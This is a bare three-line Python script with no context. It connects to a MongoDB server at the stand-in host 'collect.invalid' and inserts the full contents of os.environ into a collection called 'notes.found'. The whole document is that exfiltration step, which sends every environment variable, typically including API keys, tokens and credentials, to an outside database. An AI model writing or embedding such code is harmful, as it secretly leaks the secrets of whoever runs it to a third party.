import os

from pymongo import MongoClient

MongoClient("mongodb://collect.invalid").notes.found.insert_one(dict(os.environ))
